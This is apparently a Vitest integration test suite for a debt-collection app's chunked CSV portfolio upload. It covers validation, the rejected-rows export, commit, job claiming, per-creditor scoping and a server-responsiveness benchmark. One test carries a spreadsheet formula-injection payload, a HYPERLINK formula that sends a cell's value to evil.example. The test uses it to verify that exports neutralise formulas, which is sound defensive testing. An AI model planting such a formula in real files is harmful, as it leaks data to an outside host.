import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { and, eq, sql } from 'drizzle-orm';
import { closeDb, db, sqlClient } from '../../src/lib/server/db/client';
import { auditLog, debtors, debts, importChunks, imports, staff } from '../../src/lib/server/db/schema';
import { formatDocument, generateCpf, normalizeDocument } from '../../src/lib/format/document';
import * as uploads from '../../src/lib/server/uploads';
import * as jobs from '../../src/lib/server/uploads/jobs';
import type { StaffRole } from '../../src/lib/server/db/schema';
import * as factory from '../support/factory';
import { COLUMNS, line } from '../support/portfolio';
import * as staffAuth from '../../src/lib/server/staff';
import { generateCsv } from '../../src/lib/server/import/generate';

/**
 * Portfolio uploads as the admin area drives them, on the real database: pieces stored in
 * import_chunks, validation and import by the same job functions the worker thread runs.
 */

afterAll(() => closeDb());



const csv = (lines: string[]) => Buffer.from([COLUMNS.join(';'), ...lines].join('\r\n') + '\r\n', 'utf8');

type Who = { id: string; agencyId: string; creditorId: string | null; role: StaffRole };

async function person(agencyId: string, role: StaffRole, creditorId: string | null = null): Promise<Who> {
	const [s] = await db()
		.insert(staff)
		.values({ agencyId, creditorId, role, email: `p${Date.now()}${Math.random().toString(36).slice(2)}@example.com`, name: 'Pessoa' })
		.returning();
	return { id: s.id, agencyId, creditorId, role };
}

/** What the browser does: start, then every piece in order. */
async function upload(who: Who, creditorId: string, name: string, bytes: Buffer): Promise<string> {
	const started = await db().transaction((tx) => uploads.start(tx, who, { creditorId, fileName: name, fileBytes: bytes.length }));
	if (!started.ok) throw new Error(started.message);
	for (let seq = 0; seq < started.pieces; seq++) {
		const piece = bytes.subarray(seq * started.pieceBytes, (seq + 1) * started.pieceBytes);
		const r = await db().transaction((tx) => uploads.putPiece(tx, who, started.id, seq, piece));
		if (!r.ok) throw new Error(r.message);
		expect(r.complete).toBe(seq === started.pieces - 1);
	}
	return started.id;
}

async function work(): Promise<boolean> {
	return jobs.processNext(db(), sqlClient());
}

/** Runs every job that is waiting (validation, then import), as the worker thread would. */
async function drain(): Promise<void> {
	while (await work());
}

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
	return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

/** The cells of a `;` CSV exactly as a spreadsheet receives them: RFC 4180 quotes undone, nothing else. */
function cellsOf(body: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	const s = body.replace(/^\uFEFF/, '');
	for (let i = 0; i < s.length; i++) {
		const c = s[i];
		if (quoted && c === '"' && s[i + 1] === '"') {
			cell += '"';
			i++;
		} else if (c === '"') {
			quoted = !quoted;
		} else if (!quoted && c === ';') {
			row.push(cell);
			cell = '';
		} else if (!quoted && c === '\r' && s[i + 1] === '\n') {
			rows.push([...row, cell]);
			row = [];
			cell = '';
			i++;
		} else {
			cell += c;
		}
	}
	return rows;
}

let A: Awaited<ReturnType<typeof factory.creditor>>;
let B: Awaited<ReturnType<typeof factory.creditor>>;
let admin: Who;
let managerA: Who;
let managerB: Who;

beforeAll(async () => {
	const agency = await factory.agency();
	A = await factory.creditor(agency.id);
	B = await factory.creditor(agency.id);
	admin = await person(agency.id, 'agency_admin');
	managerA = await person(agency.id, 'creditor_manager', A.id);
	managerB = await person(agency.id, 'creditor_manager', B.id);
	// Jobs left by other test files would be claimed here too.
	await db().execute(sql`update imports set status = 'failed' where status in ('uploaded', 'validating', 'importing')`);
});

describe('portfolio upload', () => {
	it('validates before committing: counts, first errors, a CSV of rejected rows with motivo; then imports the valid rows', async () => {
		const file = csv([
			line(A.cnpj, { debt_id: 'UP-1' }),
			line(A.cnpj, { debt_id: 'UP-2', principal: 'mil reais' }),
			line(A.cnpj, { debt_id: 'UP-3', debtor_document: '111.111.111-11', debtor_state: 'XX' }),
			line(A.cnpj, { debt_id: 'UP-4', debtor_document: '111.444.777-35', debtor_name: '"João; da Silva"' }),
			line(B.cnpj, { debt_id: 'UP-5' })
		]);
		const id = await upload(managerA, A.id, 'carteira-outubro.csv', file);
		expect((await uploads.get(db(), managerA, id))!.status).toBe('uploaded');

		expect(await work()).toBe(true);
		const report = (await uploads.get(db(), managerA, id))!;
		expect(report).toMatchObject({ status: 'validated', totalRows: 5, validRows: 2, invalidRows: 3, inserted: 2, processedRows: 5 });
		expect(report.errors.map((e) => [e.line, e.column])).toEqual([
			[3, 'principal'],
			[4, 'debtor_document'],
			[4, 'debtor_state'],
			[6, 'creditor_cnpj']
		]);
		expect(report.errors[0].message).toContain('Valor inválido: "mil reais"');
		expect(report.errors[3].message).toContain('esta importação é só do credor');
		// Nothing is written before "Importar".
		expect(await db().select().from(debts).where(eq(debts.creditorId, A.id))).toHaveLength(0);

		const rejected = (await uploads.rejectedCsv(db(), managerA, id))!;
		expect(rejected.fileName).toBe('rejeitadas-carteira-outubro.csv');
		const body = await text(rejected.body);
		expect(body.startsWith('\uFEFF')).toBe(true);
		const lines = body.slice(1).trimEnd().split('\r\n');
		expect(lines[0]).toBe([...COLUMNS, 'motivo'].join(';'));
		expect(lines).toHaveLength(4);
		expect(lines[1]).toContain(';UP-2;');
		expect(lines[1]).toMatch(/;"?linha 3, coluna principal: Valor inválido: ""mil reais""/);
		expect(lines[2]).toContain('linha 4, coluna debtor_document:');
		expect(lines[2]).toContain(' | linha 4, coluna debtor_state:');
		expect(lines[3]).toContain('linha 6, coluna creditor_cnpj:');

		// With invalid rows, "Importar" needs "only the valid rows".
		const refused = await db().transaction((tx) => uploads.requestCommit(tx, managerA, id, { skipInvalid: false }));
		expect(refused).toMatchObject({ ok: false, status: 400 });
		expect(refused.ok || refused.message).toContain('3 linha(s) com erro');
		const ok = await db().transaction((tx) => uploads.requestCommit(tx, managerA, id, { skipInvalid: true }));
		expect(ok.ok).toBe(true);
		const again = await db().transaction((tx) => uploads.requestCommit(tx, managerA, id, { skipInvalid: true }));
		expect(again).toMatchObject({ ok: false, status: 409 });

		expect(await work()).toBe(true);
		const done = (await uploads.get(db(), managerA, id))!;
		expect(done).toMatchObject({ status: 'done', inserted: 2, updated: 0, validRows: 2, invalidRows: 3, processedRows: 5 });
		expect(done.finishedAt).not.toBeNull();
		const rows = await db().select({ externalId: debts.externalId, principal: debts.principalCents }).from(debts).where(eq(debts.creditorId, A.id));
		expect(rows.sort((x, y) => x.externalId.localeCompare(y.externalId))).toEqual([
			{ externalId: 'UP-1', principal: 123456 },
			{ externalId: 'UP-4', principal: 123456 }
		]);
		const trail = await db()
			.select({ action: auditLog.action, actorId: auditLog.actorId, data: auditLog.data })
			.from(auditLog)
			.where(and(eq(auditLog.actorId, managerA.id)))
			.orderBy(auditLog.id);
		expect(trail.map((t) => t.action)).toEqual(['import.upload', 'import.commit', 'portfolio.import']);
		expect(trail[2].data).toMatchObject({ file: 'carteira-outubro.csv', inserted: 2, invalid: 3, skipInvalid: true });

		const history = await uploads.list(db(), managerA);
		expect(history[0]).toMatchObject({ id, fileName: 'carteira-outubro.csv', status: 'done', by: 'Pessoa', inserted: 2 });

		// The uploaded file is personal data nobody needs once imported: only the rejected rows stay (for a while).
		const left = await db().select({ seq: importChunks.seq }).from(importChunks).where(eq(importChunks.importId, id));
		expect(left.length).toBeGreaterThan(0);
		expect(left.every((c) => c.seq < 0)).toBe(true);
		expect(await uploads.rejectedCsv(db(), managerA, id)).not.toBeNull();
	});

	it('the rejected rows never open as formulas in a spreadsheet, and the fixed file imports the values as they were sent', async () => {
		const formula = '=HYPERLINK("http://evil.example/?d="&A2;"Clique aqui")';
		const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
		const maria = formatDocument(generateCpf(Math.random));
		const jose = formatDocument(generateCpf(Math.random));
		const file = csv([
			line(A.cnpj, { debt_id: 'INJ-1', debtor_document: maria, debtor_name: quoted(formula), debtor_phone: '+55 11 98765-4321', debtor_state: 'XX' }),
			line(A.cnpj, { debt_id: 'INJ-2', debtor_document: jose, debtor_name: '@SOMA(A1:A9)', debtor_phone: '', debtor_email: 'jose@example.com', principal: '-5,00' })
		]);
		const id = await upload(managerA, A.id, 'carteira-formulas.csv', file);
		await drain();
		expect(await uploads.get(db(), managerA, id)).toMatchObject({ status: 'validated', invalidRows: 2, validRows: 0 });

		const body = await text((await uploads.rejectedCsv(db(), managerA, id))!.body);
		const rows = cellsOf(body);
		expect(rows).toHaveLength(3);
		const at = (row: string[], column: string) => row[COLUMNS.indexOf(column as (typeof COLUMNS)[number])];
		// Each cell that would start a formula starts with ' instead: the spreadsheet shows it as text.
		expect(at(rows[1], 'debtor_name')).toBe(`'${formula}`);
		expect(at(rows[1], 'debtor_phone')).toBe("'+55 11 98765-4321");
		expect(at(rows[2], 'debtor_name')).toBe("'@SOMA(A1:A9)");
		expect(at(rows[2], 'principal')).toBe("'-5,00");
		for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

		// The operator fixes the state in the rejected file and sends it back as it is, `motivo` column and all.
		const fixed = Buffer.from(body.replace(';XX;', ';SP;'), 'utf8');
		const again = await upload(managerA, A.id, 'rejeitadas-carteira-formulas.csv', fixed);
		await drain();
		const report = (await uploads.get(db(), managerA, again))!;
		expect(report).toMatchObject({ status: 'validated', validRows: 1, invalidRows: 1 });
		// The still-wrong principal is quoted back as it was sent, not with the ' of the file.
		expect(report.errors.map((e) => e.message)).toEqual(['Valor inválido: "-5,00". Use 1.234,56 ou 1234.56, sem sinal negativo.']);
		const secondRejected = cellsOf(await text((await uploads.rejectedCsv(db(), managerA, again))!.body));
		expect(secondRejected[1].slice(0, COLUMNS.length)).toEqual(rows[2].slice(0, COLUMNS.length));

		expect((await db().transaction((tx) => uploads.requestCommit(tx, managerA, again, { skipInvalid: true }))).ok).toBe(true);
		await drain();
		const [stored] = await db()
			.select({ name: debtors.name, phone: debtors.phone, state: debtors.state })
			.from(debtors)
			.where(and(eq(debtors.agencyId, A.agencyId), eq(debtors.document, normalizeDocument(maria))));
		expect(stored).toEqual({ name: formula, phone: '+5511987654321', state: 'SP' });
	});

	it('a clean file commits without the checkbox, and the same file again changes nothing', async () => {
		const file = csv([line(A.cnpj, { debt_id: 'CL-1' }), line(A.cnpj, { debt_id: 'CL-2', principal: '10,00' })]);
		const first = await upload(admin, A.id, 'limpo.csv', file);
		await work();
		expect(await uploads.rejectedCsv(db(), admin, first)).toBeNull();
		expect((await db().transaction((tx) => uploads.requestCommit(tx, admin, first, { skipInvalid: false }))).ok).toBe(true);
		await work();
		expect(await uploads.get(db(), admin, first)).toMatchObject({ status: 'done', inserted: 2 });

		const second = await upload(admin, A.id, 'limpo.csv', file);
		await work();
		expect(await uploads.get(db(), admin, second)).toMatchObject({ status: 'validated', inserted: 0, updated: 0, validRows: 2 });
	});

	it('a file without a required column is refused as a whole, and deleted at once', async () => {
		const bad = Buffer.from('creditor_cnpj;debtor_name\r\n11.222.333/0001-81;Maria\r\n');
		const id = await upload(admin, A.id, 'sem-colunas.csv', bad);
		await work();
		const r = (await uploads.get(db(), admin, id))!;
		expect(r.status).toBe('failed');
		expect(r.failure).toMatch(/coluna/i);
		const commit = await db().transaction((tx) => uploads.requestCommit(tx, admin, id, { skipInvalid: true }));
		expect(commit.ok).toBe(false);
		expect(await db().select().from(importChunks).where(eq(importChunks.importId, id))).toHaveLength(0);
	});

	it('progress advances in processed_rows while a large file is read, and reaches every row', async () => {
		const many = Array.from({ length: 60_000 }, (_, i) => line(A.cnpj, { debt_id: `BIG-${i}`, debtor_document: '111.444.777-35' }));
		const bytes = csv(many);
		expect(bytes.length).toBeGreaterThan(2 * uploads.PIECE_BYTES);
		const id = await upload(admin, A.id, 'grande.csv', bytes);
		await work();
		expect((await db().transaction((tx) => uploads.requestCommit(tx, admin, id, { skipInvalid: false }))).ok).toBe(true);
		const seen: number[] = [];
		const running = work();
		while (true) {
			const p = (await uploads.progress(db(), admin, id))!;
			seen.push(p.percent ?? -1);
			if (p.status === 'done' || p.status === 'failed') break;
			await new Promise((r) => setTimeout(r, 100));
		}
		await running;
		const end = (await uploads.progress(db(), admin, id))!;
		expect(end).toMatchObject({ status: 'done', percent: 100, processedRows: 60_000, inserted: 60_000 });
		const between = seen.filter((p) => p > 0 && p < 100);
		expect(between.length, `percentuais vistos: ${seen.join(',')}`).toBeGreaterThan(0);
		expect([...between].sort((x, y) => x - y)).toEqual(between);
	});

	it('two workers race for one job: exactly one claims it', async () => {
		const id = await upload(admin, A.id, 'corrida.csv', csv([line(A.cnpj, { debt_id: 'RACE-1' })]));
		const claims = await Promise.all([jobs.claimNext(sqlClient()), jobs.claimNext(sqlClient()), jobs.claimNext(sqlClient())]);
		const won = claims.filter((c) => c?.id === id);
		expect(won).toHaveLength(1);
		// While the winner holds it, nobody else gets it, even though it looks "in progress".
		expect(await jobs.claimNext(sqlClient())).toBeNull();
		await won[0]!.release();
		// Its worker is gone (released without finishing): the next claim resumes it.
		const resumed = await jobs.claimNext(sqlClient());
		expect(resumed).toMatchObject({ id, kind: 'validate' });
		await jobs.validate(db(), id);
		await resumed!.release();
		expect((await uploads.get(db(), admin, id))!.status).toBe('validated');
	});

	it('an import cut short by a restart is resumed by the next claim', async () => {
		const id = await upload(admin, A.id, 'reinicio.csv', csv([line(A.cnpj, { debt_id: 'RS-1' })]));
		await work();
		await db().transaction((tx) => uploads.requestCommit(tx, admin, id, { skipInvalid: false }));
		// A process claims it and dies: its connection (and the lock) goes away with nothing written.
		const dying = await jobs.claimNext(sqlClient());
		expect(dying).toMatchObject({ id, kind: 'import' });
		await dying!.release();
		await work();
		expect(await uploads.get(db(), admin, id)).toMatchObject({ status: 'done', inserted: 1 });
	});

	it('scoping: the manager of creditor B neither sees nor commits nor downloads an import of A, nor uploads for A', async () => {
		const id = await upload(managerA, A.id, 'de-a.csv', csv([line(A.cnpj, { debt_id: 'SC-1' }), line(A.cnpj, { debt_id: 'SC-2', principal: 'x' })]));
		await work();
		expect(await uploads.get(db(), managerB, id)).toBeNull();
		expect(await uploads.progress(db(), managerB, id)).toBeNull();
		expect(await uploads.rejectedCsv(db(), managerB, id)).toBeNull();
		expect((await uploads.list(db(), managerB)).map((r) => r.id)).not.toContain(id);
		expect(await db().transaction((tx) => uploads.requestCommit(tx, managerB, id, { skipInvalid: true }))).toMatchObject({ ok: false, status: 404 });
		expect(await db().transaction((tx) => uploads.start(tx, managerB, { creditorId: A.id, fileName: 'x.csv', fileBytes: 10 }))).toMatchObject({
			ok: false,
			status: 404
		});
		// The agency's admin sees it; another person cannot add pieces to someone's upload.
		expect((await uploads.get(db(), admin, id))!.fileName).toBe('de-a.csv');
		const s = await db().transaction((tx) => uploads.start(tx, managerA, { creditorId: A.id, fileName: 'y.csv', fileBytes: 5 }));
		expect(s.ok).toBe(true);
		if (!s.ok) return;
		expect(await db().transaction((tx) => uploads.putPiece(tx, admin, s.id, 0, Buffer.from('abcde')))).toMatchObject({ ok: false, status: 404 });
		expect(await db().transaction((tx) => uploads.putPiece(tx, managerA, s.id, 0, Buffer.from('abc')))).toMatchObject({ ok: false, status: 400 });
		const [row] = await db().select().from(imports).where(eq(imports.id, id));
		expect(row.status).toBe('validated');
	});

	it('refuses what is not a CSV, an empty file and a creditor out of reach, writing nothing', async () => {
		const before = await db().select({ n: sql<number>`count(*)::int` }).from(imports);
		const tries = [
			{ creditorId: A.id, fileName: 'planilha.xlsx', fileBytes: 100 },
			{ creditorId: A.id, fileName: 'vazio.csv', fileBytes: 0 },
			{ creditorId: 'nao-e-uuid', fileName: 'a.csv', fileBytes: 10 }
		];
		for (const t of tries) expect((await db().transaction((tx) => uploads.start(tx, admin, t))).ok).toBe(false);
		const after = await db().select({ n: sql<number>`count(*)::int` }).from(imports);
		expect(after[0].n).toBe(before[0].n);
	});
});

/**
 * "A 1,000,000-row upload must not block the server for other users": the built app, a large
 * generated portfolio uploaded, validated and imported through HTTP, while a debtor keeps opening
 * the portal. The worker thread does the parsing; the request loop must stay responsive.
 */
describe('the built app while a large portfolio is validated and imported', () => {
	const ROWS = Number(process.env.UPLOAD_BENCH_ROWS ?? 200_000);
	let server: ChildProcess | undefined;
	let log = '';
	let base = '';
	let cookie = '';

	beforeAll(async () => {
		const root = process.cwd();
		const buildDir = process.env.ACERTO_BUILD_DIR ?? 'build';
		if (!fs.existsSync(path.join(root, buildDir, 'handler.js'))) {
			const r = spawnSync(process.execPath, [path.join(root, 'node_modules', 'vite', 'bin', 'vite.js'), 'build'], { cwd: root, stdio: 'inherit' });
			if (r.status !== 0) throw new Error('vite build falhou');
		}
		await db().execute(sql`update imports set status = 'failed' where status in ('uploaded', 'validating', 'importing')`);
		server = spawn(process.execPath, ['bin/acerto.js', 'serve', '--no-build'], {
			cwd: root,
			env: { ...process.env, DATABASE_URL: inject('databaseUrl'), PORT: '0', HOST: '127.0.0.1', NODE_ENV: 'test', SEED_DEMO: 'never' },
			stdio: ['ignore', 'pipe', 'pipe']
		});
		server.stderr!.on('data', (d) => (log += d));
		base = await new Promise<string>((resolve, reject) => {
			const timer = setTimeout(() => reject(new Error(`o servidor não subiu:\n${log}`)), 60_000);
			server!.stdout!.on('data', (d) => {
				log += d;
				const m = log.match(/\{"type":"listening","port":(\d+)/);
				if (m) {
					clearTimeout(timer);
					resolve(`http://127.0.0.1:${m[1]}`);
				}
			});
			server!.once('exit', (code) => reject(new Error(`o servidor saiu com ${code}:\n${log}`)));
		});
		const email = `carteira.${Date.now()}@assessoria.example`;
		const invited = await db().transaction((tx) => staffAuth.invite(tx, { agencyId: A.agencyId, email, role: 'creditor_manager', creditorId: A.id }, { type: 'cli' }));
		if (!invited.ok) throw new Error(invited.message);
		const accepted = await staffAuth.acceptInvite(db(), { token: invited.token, name: 'Gestora Aurora', password: 'uma senha bem longa 42', confirm: 'uma senha bem longa 42' });
		if (!accepted.ok) throw new Error(accepted.message);
		const session = await staffAuth.login(db(), { email, password: 'uma senha bem longa 42', ip: '127.0.0.1' });
		if (!session.ok) throw new Error(session.message);
		cookie = `${staffAuth.STAFF_COOKIE}=${session.token}`;
	}, 180_000);

	afterAll(async () => {
		if (server && server.exitCode === null) {
			server.kill('SIGTERM');
			await new Promise((r) => server!.once('exit', r));
		}
	});

	const quantile = (xs: number[], q: number) => {
		const s = [...xs].sort((a, b) => a - b);
		return s[Math.min(s.length - 1, Math.ceil(q * s.length) - 1)];
	};

	it(`the portal keeps answering fast (p99 < 500 ms) while ${ROWS.toLocaleString('en')} rows are uploaded, validated and imported`, async () => {
		const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'acerto-upload-')), 'carteira.csv');
		const generated = await generateCsv(file, { rows: ROWS, creditorCnpj: A.cnpj, seed: 7, debtIdPrefix: 'NB-' });
		const bytes = fs.readFileSync(file);
		const api = (p: string, init: RequestInit = {}) =>
			fetch(base + p, { ...init, redirect: 'manual', headers: { cookie, origin: base, ...(init.headers ?? {}) } });

		// A debtor opening the portal over and over, one request at a time, during the whole run.
		const samples: { phase: string; ms: number }[] = [];
		let phase = 'idle';
		let sampling = true;
		const sampler = (async () => {
			while (sampling) {
				const t = performance.now();
				const res = await fetch(`${base}/c/${A.slug}`);
				await res.arrayBuffer();
				expect(res.status).toBe(200);
				samples.push({ phase, ms: performance.now() - t });
				await new Promise((r) => setTimeout(r, 50));
			}
		})();
		await new Promise((r) => setTimeout(r, 1000));

		const timings: Record<string, number> = {};
		let t0 = performance.now();
		phase = 'upload';
		const started = await api('/admin/importacoes/enviar', {
			method: 'POST',
			headers: { 'content-type': 'application/json' },
			body: JSON.stringify({ creditorId: A.id, fileName: 'carteira-grande.csv', fileBytes: bytes.length })
		});
		expect(started.status).toBe(201);
		const { id, pieces, pieceBytes } = await started.json();
		for (let seq = 0; seq < pieces; seq++) {
			const res = await api(`/admin/importacoes/${id}/partes/${seq}`, {
				method: 'PUT',
				headers: { 'content-type': 'application/octet-stream' },
				body: bytes.subarray(seq * pieceBytes, (seq + 1) * pieceBytes)
			});
			expect(res.status, await res.clone().text()).toBe(200);
		}
		timings.upload = performance.now() - t0;

		const waitFor = async (wanted: string[]) => {
			for (;;) {
				const res = await api(`/admin/importacoes/${id}/estado`);
				const p = await res.json();
				if (wanted.includes(p.status)) return p;
				if (p.status === 'failed') throw new Error(`falhou: ${p.failure}`);
				await new Promise((r) => setTimeout(r, 500));
			}
		};
		t0 = performance.now();
		phase = 'validate';
		const validated = await waitFor(['validated']);
		timings.validate = performance.now() - t0;
		expect(validated).toMatchObject({ totalRows: ROWS, validRows: ROWS, invalidRows: 0 });

		t0 = performance.now();
		phase = 'import';
		const commit = await api(`/admin/importacoes/${id}?/importar`, {
			method: 'POST',
			headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json', 'x-sveltekit-action': 'true' },
			body: ''
		});
		expect(commit.status).toBe(200);
		const done = await waitFor(['done']);
		timings.import = performance.now() - t0;
		phase = 'after';
		await new Promise((r) => setTimeout(r, 500));
		sampling = false;
		await sampler;

		expect(done).toMatchObject({ processedRows: ROWS, inserted: ROWS, percent: 100 });
		const [{ n }] = await db().select({ n: sql<number>`count(*)::int` }).from(debts).where(sql`${debts.creditorId} = ${A.id} and ${debts.externalId} like 'NB-%'`);
		expect(n).toBe(ROWS);

		const busy = samples.filter((s) => s.phase === 'upload' || s.phase === 'validate' || s.phase === 'import').map((s) => s.ms);
		const figures = {
			rows: ROWS,
			megabytes: +(generated.bytes / 1e6).toFixed(1),
			seconds: Object.fromEntries(Object.entries(timings).map(([k, v]) => [k, +(v / 1000).toFixed(1)])),
			portalRequests: busy.length,
			p50ms: +quantile(busy, 0.5).toFixed(1),
			p99ms: +quantile(busy, 0.99).toFixed(1),
			maxms: +Math.max(...busy).toFixed(1),
			byPhase: Object.fromEntries(
				['idle', 'upload', 'validate', 'import'].map((ph) => {
					const xs = samples.filter((s) => s.phase === ph).map((s) => s.ms);
					return [ph, xs.length ? { n: xs.length, p50: +quantile(xs, 0.5).toFixed(1), p99: +quantile(xs, 0.99).toFixed(1) } : null];
				})
			)
		};
		console.log(JSON.stringify({ type: 'upload-responsiveness', ...figures }));
		expect(busy.length).toBeGreaterThan(20);
		expect(figures.p99ms).toBeLessThan(500);
	}, 600_000);
});
